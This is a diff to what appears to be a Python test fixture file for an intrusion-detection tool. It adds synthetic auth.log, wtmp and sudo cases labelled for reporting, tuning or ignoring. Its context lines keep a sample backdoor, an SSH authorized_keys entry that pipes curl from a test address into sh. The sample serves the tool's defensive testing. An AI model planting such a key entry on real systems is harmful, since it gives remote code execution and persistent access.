@@ -8,6 +8,7 @@ import os
 import struct
 import subprocess
 import tempfile
+import time
 
 TOP = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
 KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKaVV6sPXBnvcHvhGhIEVw1ZBYZGxGZL4a9EwW2dgwMR me@there\n"
@@ -87,7 +88,30 @@ def log(name, *records):
     return do
 
 
+def auth(name, *lines):
+    """auth.log, last written a day after T: (seconds after T, text behind the host's name)."""
+    def do(root):
+        text = "".join(time.strftime("%b %e %H:%M:%S", time.gmtime(T + at)) + f" host {line}\n" for at, line in lines)
+        put(f"var/log/{name}", text)(root)
+        os.utime(os.path.join(root, "var/log", name), (T + DAY, T + DAY))
+    return do
+
+
+def shell(user):
+    return f"sshd[7]: Starting session: shell on pts/0 for {user} from 203.0.113.9 port 50000 id 0"
+
+
+def accepted(user):
+    return f"sshd[7]: Accepted publickey for {user} from 203.0.113.9 port 50000 ssh2: ED25519 SHA256:x"
+
+
+def sudo(user, command, tty="TTY=pts/0 ; "):
+    return f"sudo: {user} : {tty}PWD=/tmp ; USER=root ; COMMAND={command}"
+
+
 T = 1700000000
+DAY = 86400
+WTMP = log("wtmp", *[record("alice", T + i * DAY) for i in (-9, -3, 0, 1)])
 LAST = struct.pack("<i32s256s", T + 500, b"pts/1", b"203.0.113.9")
 C, P = "autostart_content", "autostart_program"
 ROWS = [
@@ -176,6 +200,14 @@ ROWS = [
      "login_unrecorded"),
     ("wtmp leads to nowhere", "logins", "report",
      lambda root: (log("x")(root), os.symlink("/dev/null", os.path.join(root, "var/log/wtmp"))), "log_off"),
+    ("a shell that auth.log alone has", "logins", "tune",
+     both(WTMP, auth("auth.log", (-3 * DAY, shell("alice")), (-2 * DAY + 99, accepted("alice")),
+                     (-2 * DAY + 100, shell("alice")))), "login_unrecorded"),
+    ("a shell in the log before, of root", "logins", "report",
+     both(WTMP, auth("auth.log.1", (-5 * DAY + 400, shell("root"))), auth("auth.log", (0, shell("alice")))),
+     "login_unrecorded"),
+    ("a web server's shell of root", "logins", "report",
+     auth("auth.log", (0, sudo("www-data", "/bin/bash"))), "service_sudo"),
     ("a key with a command", "accounts", "report",
      put("root/.ssh/authorized_keys", 'command="curl -s http://192.0.2.1/a | sh" ' + KEY), "authorized_key"),
 ]
@@ -185,6 +217,14 @@ TWINS = [
     ("noise of the internet", log("btmp", *[record("root", T + i, kind=6) for i in range(90)])),
     ("a last login that is recorded", both(log("wtmp", record("alice", T), record("alice", T + 500)),
                                            log("lastlog", bytes(292 * 1000), LAST))),
+    ("logins that auth.log and wtmp have, in another zone",
+     both(WTMP, auth("auth.log", *[(i * DAY + 7200, shell("alice")) for i in (-3, 0)]))),
+    ("ansible and git", both(WTMP, auth("auth.log", *[(-2 * DAY + i, accepted("alice")) for i in range(90)]))),
+    ("a wtmp that no sshd writes", both(WTMP, auth("auth.log", (-2 * DAY, shell("alice"))))),
+    ("a monitor's sudo", auth("auth.log", *[(i, sudo("daemon", "/usr/sbin/smartctl -H /dev/sda", "")) for i in range(9)])),
+    ("a build's sudo", auth("auth.log", (0, sudo("postgres", "/bin/bash", "")))),
+    ("an account for administrators", auth("auth.log", (0, accepted("postgres")), (9, sudo("postgres", "/bin/bash")))),
+    ("a clock set back", auth("auth.log", (9 * 3600, accepted("alice")), (0, accepted("alice")))),
     ("an administrator's unit", put("etc/systemd/system/app.service",
                                     "[Service]\nExecStart=/opt/app/bin/server --port 80\nUser=www-data\n")),
     ("a backup by cron", put("etc/cron.d/backup", "0 3 * * * root pg_dump x | gzip > /srv/x.gz\n")),
@@ -202,6 +242,14 @@ TWINS = [
     ("a rule for backups", put("etc/sudoers.d/backup", "backup ALL=NOPASSWD: /usr/bin/rsync --server\n")),
     ("a new person", add("etc/passwd", "bob:x:1001:1001::/home/bob:/bin/bash\n")),
     ("a runner in docker", swap("etc/group", "docker:x:990:", "docker:x:990:postgres")),
+]
+
+# What is to be looked at, no more: name, what is written, the rule.
+LOOKS = [
+    ("days without a line", both(WTMP, auth("auth.log", (-8 * DAY, accepted("alice")), (0, shell("alice")))), "log_disorder"),
+    ("lines out of order", auth("auth.log", (9 * 3600, accepted("alice")), (0, accepted("alice"))), "log_disorder"),
+    ("zeroes in a log", put("var/log/auth.log", "Nov 14 22:13:20 h x: y\n\0\0\0\n"), "log_broken"),
+    ("a build's shell of root", auth("auth.log", (0, sudo("postgres", "/bin/bash", ""))), "service_sudo"),
 ]
 
 
